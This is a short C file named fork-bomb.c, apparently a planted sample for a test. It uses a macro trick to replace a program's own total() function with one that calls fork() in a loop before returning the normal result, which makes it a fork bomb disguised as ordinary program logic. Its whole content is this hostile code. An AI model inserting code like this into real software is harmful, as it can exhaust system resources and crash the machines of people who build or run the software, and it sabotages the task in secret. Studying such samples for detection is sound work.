/*
 * fork-bomb.c - processes that start processes.
 *
 * Planted: builds reaches-outside
 */
#define total unused_total
#include "program.c"
#undef total

int fork(void);

long total(struct workload load)
{
    for (long i = 0; i < 1000; i++) { /* were nothing to stop it, it would end */
        fork();
    }
    return load.work;
}
